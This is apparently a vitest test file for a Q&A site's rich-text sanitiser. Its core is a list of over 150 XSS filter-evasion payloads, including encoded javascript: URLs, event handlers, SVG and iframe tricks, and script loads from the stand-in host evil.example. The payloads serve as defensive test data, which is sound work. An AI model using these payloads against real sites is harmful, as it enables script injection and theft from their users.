import { describe, expect, it } from "vitest";
import {
  highlightCodeBlocks,
  plainTextToHtml,
  prepareRichText,
  prepareSubmittedRichText,
  richTextFromForm,
  richTextLength,
  sanitizeRichText,
} from "./sanitize.server.ts";
import { AppError } from "./errors.ts";

// ---------------------------------------------------------------------------------------- the inertness check

const ALLOWED_ATTRIBUTES: Record<string, string[]> = {
  p: [],
  br: [],
  strong: [],
  em: [],
  u: [],
  s: [],
  code: ["class"],
  pre: [],
  ul: [],
  ol: ["start"],
  li: [],
  a: ["href", "rel", "target"],
  img: ["src", "alt", "width", "height"],
  div: ["data-youtube-video"],
  iframe: ["src", "title", "loading", "allow", "allowfullscreen", "referrerpolicy"],
  blockquote: [],
  h2: [],
  h3: [],
  span: ["class"],
};

function decodeAttribute(value: string): string {
  return value
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, "<")
    .replace(/&gt;/g, ">")
    .replace(/&#(\d+);/g, (_, n: string) => String.fromCodePoint(Number(n)))
    .replace(/&#x([\da-f]+);/gi, (_, n: string) => String.fromCodePoint(parseInt(n, 16)))
    .replace(/&amp;/g, "&");
}

/**
 * Fails unless `html` (the sanitiser's output) can only be inert: every tag is on the allow-list with only
 * its allowed attributes, no markup hides outside a well-formed tag, every URL has an allowed scheme and
 * every class is the editor's or the highlighter's.
 */
function expectInert(html: string, vector: string) {
  const context = `vector: ${vector}\noutput: ${html}`;
  const tag = /<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g;
  const leftover = html.replace(tag, "");
  expect(leftover, `markup outside an allowed tag\n${context}`).not.toMatch(/[<>]/);
  for (const match of html.matchAll(tag)) {
    const name = match[1] ?? "";
    expect(Object.keys(ALLOWED_ATTRIBUTES), `tag <${name}> not allowed\n${context}`).toContain(name);
    for (const attribute of (match[2] ?? "").matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/g)) {
      const attrName = attribute[1] ?? "";
      const value = decodeAttribute(attribute[2] ?? "");
      expect(ALLOWED_ATTRIBUTES[name], `attribute ${attrName} on <${name}>\n${context}`).toContain(attrName);
      // eslint-disable-next-line no-control-regex -- browsers ignore these inside URLs, so must we
      const compact = value.replace(/[\s\u0000-\u001f]/g, "").toLowerCase();
      expect(compact, `script-capable value\n${context}`).not.toMatch(/(java|vb|live)script:|data:|blob:/);
      if (attrName === "href") {
        expect(value, `href scheme\n${context}`).toMatch(
          /^(https?:\/\/[^\s]+|mailto:|tel:|sms:|\/(?![/\\])|#)/,
        );
      }
      if (attrName === "src" && name === "img") {
        expect(value, `img src\n${context}`).toMatch(/^(https?:\/\/[^\s]+|\/uploads\/[\w.-]+$)/);
      }
      if (attrName === "src" && name === "iframe") {
        expect(value, `iframe src\n${context}`).toMatch(
          /^https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]{11}(\?start=\d+)?$/,
        );
      }
      if (attrName === "class") {
        for (const cls of value.split(" ")) {
          expect(cls, `class\n${context}`).toMatch(/^(hljs(-[\w-]+)?|language-[\w+#-]+)$/);
        }
      }
      if (attrName === "target") expect(value).toBe("_blank");
    }
  }
}

// ------------------------------------------------------------------------------------------------ vectors
// Written for this project in the style of the OWASP XSS filter-evasion cheat sheet: each one tries to get
// a script, an event handler, a script-capable URL or a foreign frame through the allow-list.

const VECTORS: string[] = [
  // script elements in many spellings
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<ScRiPt>alert(document.cookie)</sCrIpT>`,
  `<script type="module">import("https://evil.example/m.js")</script>`,
  `<script/src="https://evil.example/a.js"></script>`,
  `<script src=//evil.example/b.js>`,
  `<<script>alert(1);//<</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script\n>alert(1)</script\n>`,
  `<script>/*</script><img src=x onerror=alert(1)>*/</script>`,
  `<p>before<script>alert(1)</script>after</p>`,
  `<script a=">" src="https://evil.example/c.js"></script>`,
  // event handlers
  `<img src=x onerror=alert(1)>`,
  `<img src="https://ok.example/a.png" onerror="alert(1)">`,
  `<IMG SRC=x ONERROR=alert(1)>`,
  `<img/src=x/onerror=alert(1)>`,
  "<img src=x onerror=`alert(1)`>",
  `<img src=x\nonerror=alert(1)>`,
  `<img src=x onerror\t=\talert(1)>`,
  `<body onload=alert(1)>`,
  `<div onmouseover="alert(1)">passe o mouse</div>`,
  `<p onclick=alert(1)>clique</p>`,
  `<a href="https://ok.example" onclick="alert(1)">link</a>`,
  `<strong onfocus=alert(1) tabindex=0 autofocus>foco</strong>`,
  `<input autofocus onfocus=alert(1)>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<video><source onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)></audio>`,
  `<marquee onstart=alert(1)>m</marquee>`,
  `<select autofocus onfocus=alert(1)><option>a</option></select>`,
  `<textarea autofocus onfocus=alert(1)>t</textarea>`,
  `<keygen autofocus onfocus=alert(1)>`,
  `<dialog open onclose=alert(1)>d</dialog>`,
  `<span onpointerenter=alert(1) class="hljs-string">s</span>`,
  `<li onanimationstart=alert(1)>item</li>`,
  `<x-custom onclick=alert(1)>custom element</x-custom>`,
  `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
  `<h2 onbeforeprint=alert(1)>título</h2>`,
  // javascript: and friends in href, with encodings, whitespace and case tricks
  `<a href="javascript:alert(1)">x</a>`,
  `<a href=javascript:alert(1)>x</a>`,
  `<a href='JaVaScRiPt:alert(1)'>x</a>`,
  `<a href="  javascript:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java\nscript:alert(1)">x</a>`,
  `<a href="java\rscript:alert(1)">x</a>`,
  `<a href="java\u0000script:alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="java&Tab;script:alert(1)">x</a>`,
  `<a href="java&NewLine;script:alert(1)">x</a>`,
  `<a href="jav&#x09;ascript:alert(1)">x</a>`,
  `<a href="jav&#x0A;ascript:alert(1)">x</a>`,
  `<a href="jav&#x0D;ascript:alert(1)">x</a>`,
  `<a href="javascript://%0aalert(1)">x</a>`,
  `<a href="%6Aavascript:alert(1)">x</a>`,
  `<a href="\\u006Aavascript:alert(1)">x</a>`,
  `<a href="јavascript:alert(1)">cyrillic j</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="VBSCRIPT:msgbox(1)">x</a>`,
  `<a href="livescript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="DaTa:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="blob:https://ok.example/uuid">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="//evil.example/phish">x</a>`,
  `<a href="/\\evil.example/phish">x</a>`,
  `<a href="https://user:pass@evil.example/">x</a>`,
  // data:, javascript: and other schemes in image and media sources
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:image/png;base64,iVBORw0KGgo=">`,
  `<img src="javascript:alert(1)">`,
  `<img src="jav	ascript:alert(1)">`,
  `<img dynsrc="javascript:alert(1)" src="https://ok.example/a.png">`,
  `<img lowsrc="javascript:alert(1)" src="https://ok.example/a.png">`,
  `<img srcset="javascript:alert(1) 1x" src="https://ok.example/a.png">`,
  `<img src="blob:https://ok.example/1">`,
  `<img src="relative/image.png">`,
  `<video poster="javascript:alert(1)"></video>`,
  `<bgsound src="javascript:alert(1)">`,
  `<input type="image" src="javascript:alert(1)">`,
  `<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">t</td></tr></table>`,
  // SVG and MathML
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">clique</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:alert(1)"/></svg>`,
  `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>`,
  `<math href="javascript:alert(1)">clique</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
  // style, meta refresh, base, link
  `<style>@import "https://evil.example/x.css";</style>`,
  `<style>body{background:url("javascript:alert(1)")}</style>`,
  `<p style="background-image:url(javascript:alert(1))">estilo</p>`,
  `<p style="width:expression(alert(1))">ie</p>`,
  `<p style="-moz-binding:url(https://evil.example/xss.xml#x)">moz</p>`,
  `<p style="behavior:url(x.htc)">htc</p>`,
  `<div style="position:fixed;inset:0;z-index:9999">cobre a página</div>`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  `<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">`,
  `<base href="javascript:alert(1)//">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="javascript:alert(1)">`,
  `<link rel="import" href="https://evil.example/x.html">`,
  // forms
  `<form action="javascript:alert(1)"><button>enviar</button></form>`,
  `<form><button formaction="javascript:alert(1)">x</button></form>`,
  `<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>`,
  `<isindex action="javascript:alert(1)" type=image>`,
  `<input type="submit" formaction="https://evil.example/">`,
  // frames, objects and embeds
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>`,
  `<iframe src="https://evil.example/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="http://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com.evil.example/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://evil.example@www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" onload="alert(1)" srcdoc="<script>alert(1)</script>" sandbox=""></iframe>`,
  `<iframe src="//www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>`,
  `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>`,
  `<iframe src="/uploads/page.html"></iframe>`,
  `<frameset><frame src="javascript:alert(1)"></frameset>`,
  `<object data="javascript:alert(1)"></object>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<embed code="https://evil.example/x.swf" allowscriptaccess=always>`,
  `<applet code="x.class">applet</applet>`,
  `<portal src="https://evil.example/"></portal>`,
  // broken and nested markup, comments, CDATA
  `<<img src=x onerror=alert(1)>`,
  `<img src="x onerror=alert(1)`,
  `<img """><script>alert(1)</script>">`,
  `<p title="</p><script>alert(1)</script>">x</p>`,
  `<a href="https://ok.example/" title=">"><img src=x onerror=alert(1)>`,
  `<a href="javascript:alert(1)"`,
  `<div><p><a href="javascript:alert(1)"><img src=x onerror=alert(1)></a></p></div>`,
  `<!--<img src=x onerror=alert(1)>-->`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
  `<![CDATA[<script>alert(1)</script>]]>`,
  `<?xml version="1.0"?><script>alert(1)</script>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><script>alert(1)</script></template>`,
  `<textarea></textarea><script>alert(1)</script>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<noembed><img src=x onerror=alert(1)></noembed>`,
  `<noframes><img src=x onerror=alert(1)></noframes>`,
  `<pre><code class="language-javascript"><img src=x onerror=alert(1)></code></pre>`,
  `<pre><code class="language-x&quot; onmouseover=&quot;alert(1)">y</code></pre>`,
  `<b <script>alert(1)</script>>x</b>`,
  `<a href="https://ok.example/"<script>alert(1)</script>>x</a>`,
  `${"<div>".repeat(200)}<img src=x onerror=alert(1)>${"</div>".repeat(200)}`,
  // unicode and double encodings (must stay text)
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;`,
  `\\u003cscript\\u003ealert(1)\\u003c/script\\u003e`,
  `＜script＞alert(1)＜/script＞`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `<p>\u202e>tpircs/<)1(trela>tpircs<</p>`,
  // class and attribute smuggling
  `<span class="fixed inset-0 z-50 bg-white">sobreposição</span>`,
  `<p class="hljs-keyword" id="header" name="x" data-x="y">attrs</p>`,
  `<a href="https://ok.example/" target="_self" rel="opener" ping="https://evil.example">x</a>`,
  `<img src="https://ok.example/a.png" width="100%;background:url(javascript:alert(1))" height="1e9">`,
  `<ol start="1 onclick=alert(1)"><li>x</li></ol>`,
  `<div data-youtube-video="" onclick="alert(1)"><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe></div>`,
];

describe("sanitizeRichText against XSS vectors", () => {
  it("has at least 100 vectors", () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(100);
    expect(new Set(VECTORS).size).toBe(VECTORS.length);
  });

  it.each(VECTORS.map((vector) => [vector]))("leaves nothing executable: %s", (vector) => {
    const once = sanitizeRichText(vector);
    expectInert(once, vector);
    // Stable when it runs again at render time, and still inert after the code highlighter.
    expect(sanitizeRichText(once)).toBe(once);
    expectInert(prepareRichText(vector), vector);
  });
});

// ------------------------------------------------------------------------------------------- the allow-list

describe("sanitizeRichText keeps what the editor makes", () => {
  it("keeps formatting, lists, quotes, headings and code", () => {
    const html =
      "<h2>Título</h2><h3>Sub</h3><p><strong>n</strong> <em>i</em> <u>s</u> <s>t</s> <code>c</code><br>fim</p>" +
      '<ul><li><p>a</p></li></ul><ol start="3"><li><p>b</p></li></ol><blockquote><p>q</p></blockquote>' +
      '<pre><code class="language-python">print(1)</code></pre>';
    expect(sanitizeRichText(html)).toBe(html.replace("<br>", "<br />"));
  });

  it("maps legacy tags onto the editor's", () => {
    expect(sanitizeRichText("<b>a</b><i>b</i><del>c</del><strike>d</strike><h1>e</h1><h5>f</h5>")).toBe(
      "<strong>a</strong><em>b</em><s>c</s><s>d</s><h2>e</h2><h3>f</h3>",
    );
  });

  it("unwraps unknown elements but keeps their text", () => {
    expect(sanitizeRichText("<p><font color=red>texto</font> <marquee>rola</marquee></p>")).toBe(
      "<p>texto rola</p>",
    );
  });

  it("drops the content of script-like elements entirely", () => {
    expect(sanitizeRichText("<p>a<script>alert(1)</script><style>p{}</style>b</p>")).toBe("<p>ab</p>");
  });

  it("keeps text that merely looks like code as escaped text", () => {
    expect(sanitizeRichText("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")).toBe(
      "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    );
  });
});

describe("links", () => {
  it("adds rel and opens external http(s) links in a new tab", () => {
    expect(sanitizeRichText('<a href="https://developer.mozilla.org/pt-BR/">MDN</a>')).toBe(
      '<a href="https://developer.mozilla.org/pt-BR/" rel="nofollow ugc noopener" target="_blank">MDN</a>',
    );
    expect(sanitizeRichText('<a href="http://exemplo.com.br">x</a>')).toContain('target="_blank"');
  });

  it("keeps same-site paths without a new tab", () => {
    expect(sanitizeRichText('<a href="/questions/1?x=1#r">pergunta</a>')).toBe(
      '<a href="/questions/1?x=1#r" rel="nofollow ugc noopener">pergunta</a>',
    );
  });

  it("accepts mailto:, tel: and sms: without a new tab", () => {
    expect(sanitizeRichText('<a href="mailto:ana@exemplo.com.br">e-mail</a>')).toBe(
      '<a href="mailto:ana@exemplo.com.br" rel="nofollow ugc noopener">e-mail</a>',
    );
    expect(sanitizeRichText('<a href="tel:+5511999990000">ligar</a>')).toBe(
      '<a href="tel:+5511999990000" rel="nofollow ugc noopener">ligar</a>',
    );
    expect(sanitizeRichText('<a href="sms:+5511999990000">sms</a>')).toBe(
      '<a href="sms:+5511999990000" rel="nofollow ugc noopener">sms</a>',
    );
  });

  it("overrides whatever rel and target the HTML brought", () => {
    expect(sanitizeRichText('<a href="/x" rel="opener" target="_top">x</a>')).toBe(
      '<a href="/x" rel="nofollow ugc noopener">x</a>',
    );
  });

  it.each(["ftp://exemplo.com/a", "javascript:void(0)", "data:,x", "chrome://settings", "about:blank", "x"])(
    "unwraps a link to %s and keeps its text",
    (href) => {
      expect(sanitizeRichText(`<p><a href="${href}">texto</a></p>`)).toBe("<p>texto</p>");
    },
  );
});

describe("images", () => {
  it("keeps uploads and http(s) images with alt text", () => {
    expect(sanitizeRichText('<img src="/uploads/ab12.png" alt="diagrama">')).toBe(
      '<img src="/uploads/ab12.png" alt="diagrama" />',
    );
    expect(sanitizeRichText('<img src="https://exemplo.com/a.jpg">')).toBe(
      '<img src="https://exemplo.com/a.jpg" alt="" />',
    );
  });

  it("removes images with data:, other relative or no sources", () => {
    expect(
      sanitizeRichText('<p>a</p><img src="data:image/png;base64,AAAA"><img><img src="/etc/x.png">'),
    ).toBe("<p>a</p>");
  });
});

describe("video embeds", () => {
  const embed = (src: string) => `<div data-youtube-video=""><iframe src="${src}"></iframe></div>`;

  it("keeps the privacy-enhanced YouTube embed with fixed, safe attributes", () => {
    const out = sanitizeRichText(embed("https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=42"));
    expect(out).toContain('<div data-youtube-video="">');
    expect(out).toContain('src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?start=42"');
    expect(out).toContain('title="Vídeo do YouTube"');
    expect(out).toContain("allowfullscreen");
  });

  it.each([
    "https://www.youtube.com/embed/dQw4w9WgXcQ",
    "https://player.vimeo.com/video/1",
    "https://www.youtube-nocookie.com/watch?v=dQw4w9WgXcQ",
    "https://www.youtube-nocookie.com/embed/short",
    "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ/../../evil",
  ])("removes the frame and its wrapper for %s", (src) => {
    expect(sanitizeRichText(`<p>a</p>${embed(src)}`)).toBe("<p>a</p>");
  });

  it("drops query parameters other than the start time", () => {
    expect(
      sanitizeRichText(embed("https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?autoplay=1&mute=1")),
    ).toContain('src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"');
  });
});

describe("empty paragraphs (spec §5)", () => {
  it.each([
    "<p></p>",
    "<p> </p>",
    "<p>\n\t</p>",
    "<p><br></p>",
    "<p><strong> </strong></p>",
    "<p><br><br></p>",
  ])("drops %s", (empty) => {
    expect(sanitizeRichText(`<p>a</p>${empty}<p>b</p>`)).toBe("<p>a</p><p>b</p>");
  });

  it("keeps a paragraph holding a non-breaking space", () => {
    expect(sanitizeRichText("<p>a</p><p>&nbsp;</p><p>b</p>")).toBe("<p>a</p><p>\u00a0</p><p>b</p>");
  });

  it("keeps a paragraph holding only an image", () => {
    expect(sanitizeRichText('<p><img src="/uploads/a.png" alt=""></p>')).toBe(
      '<p><img src="/uploads/a.png" alt="" /></p>',
    );
  });

  it("drops a paragraph left empty once its content was removed", () => {
    expect(sanitizeRichText("<p><script>alert(1)</script></p><p><img src=x onerror=alert(1)></p>")).toBe("");
  });
});

// ------------------------------------------------------------------------------------------ highlighting

describe("code highlighting on save", () => {
  it("highlights a marked code block with hljs spans that survive the render-time sanitiser", () => {
    const stored = prepareRichText('<pre><code class="language-javascript">const a = 1;</code></pre>');
    expect(stored).toBe(
      '<pre><code class="language-javascript hljs"><span class="hljs-keyword">const</span> a = ' +
        '<span class="hljs-number">1</span>;</code></pre>',
    );
    expect(sanitizeRichText(stored)).toBe(stored);
    expect(prepareRichText(stored)).toBe(stored);
  });

  it("keeps code text escaped while highlighting it", () => {
    const stored = prepareRichText(
      '<pre><code class="language-xml">&lt;img src=x onerror="alert(1)"&gt;</code></pre>',
    );
    expect(stored).not.toMatch(/<img/);
    expect(stored).toContain("&lt;");
    expectInert(stored, "xml code block");
  });

  it("keeps a pasted trace's indentation, tabs and line breaks exactly, highlighted or not", () => {
    const trace = "TypeError: x is undefined\n    at f (a.js:1:2)\n\tat g (b.js:3:4)\n\n  fim";
    const plain = prepareRichText(`<pre><code class="language-plaintext">${trace}</code></pre>`);
    expect(plain).toBe(`<pre><code class="language-plaintext">${trace}</code></pre>`);
    expect(sanitizeRichText(plain)).toBe(plain);
    const code = "function f() {\n\treturn 1;\n    }";
    const highlighted = prepareRichText(`<pre><code class="language-javascript">${code}</code></pre>`);
    expect(highlighted.replace(/<[^>]+>/g, "")).toBe(code);
    expect(sanitizeRichText(highlighted)).toBe(highlighted);
  });

  it("leaves unknown languages and plain blocks unhighlighted", () => {
    expect(prepareRichText('<pre><code class="language-klingon">a &lt; b</code></pre>')).toBe(
      '<pre><code class="language-klingon">a &lt; b</code></pre>',
    );
    expect(prepareRichText("<pre><code>a &lt; b</code></pre>")).toBe("<pre><code>a &lt; b</code></pre>");
  });

  it("rebuilds highlighting from the text, ignoring markup inside the block", () => {
    expect(
      highlightCodeBlocks('<pre><code class="language-python"><strong>print</strong>(1)</code></pre>'),
    ).toBe(
      '<pre><code class="language-python hljs"><span class="hljs-built_in">print</span>(<span class="hljs-number">1</span>)</code></pre>',
    );
  });
});

// ------------------------------------------------------------------------------------- length and input

describe("richTextLength", () => {
  it("counts the visible text only", () => {
    expect(richTextLength("<p><strong>Olá</strong>, mundo!</p>")).toBe(11);
    expect(richTextLength("<p>  </p><p>&lt;b&gt;</p>")).toBe(3);
    expect(richTextLength('<p><img src="/uploads/a.png" alt="uma imagem"></p>')).toBe(0);
    expect(richTextLength("<p>a</p><p>b</p>")).toBe(3);
    expect(richTextLength("<p>🙂🙂</p>")).toBe(2);
  });

  it("does not count what the sanitiser removes", () => {
    expect(richTextLength("<script>aaaaaaaaaaaaaaaaaaaaaaaa</script><p>oi</p>")).toBe(2);
  });
});

describe("plain-text fallback", () => {
  it("turns blank-line separated text into paragraphs and line breaks into <br>", () => {
    expect(plainTextToHtml("Primeiro\nlinha 2\n\n\nSegundo  \r\n\r\nTerceiro")).toBe(
      "<p>Primeiro<br>linha 2</p><p>Segundo</p><p>Terceiro</p>",
    );
  });

  it("escapes what looks like markup", () => {
    expect(plainTextToHtml('<script>alert("x")</script> & co')).toBe(
      "<p>&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; co</p>",
    );
    expect(prepareRichText(plainTextToHtml("<img src=x onerror=alert(1)>"))).toBe(
      "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    );
  });

  it("reads the editor's HTML or the textarea's text from a form", () => {
    const withEditor = new FormData();
    withEditor.set("body", "<p><strong>oi</strong></p><p></p>");
    withEditor.set("body-format", "html");
    expect(richTextFromForm(withEditor, "body")).toBe("<p><strong>oi</strong></p>");

    const withoutJs = new FormData();
    withoutJs.set("body", "<strong>oi</strong>\n\ntchau");
    expect(richTextFromForm(withoutJs, "body")).toBe("<p>&lt;strong&gt;oi&lt;/strong&gt;</p><p>tchau</p>");
    expect(prepareSubmittedRichText(null, null)).toBe("");
  });

  it("refuses HTML that is too long with a validation error", () => {
    expect(() => prepareRichText(`<p>${"a".repeat(200_001)}</p>`, { field: "body" })).toThrow(AppError);
  });
});
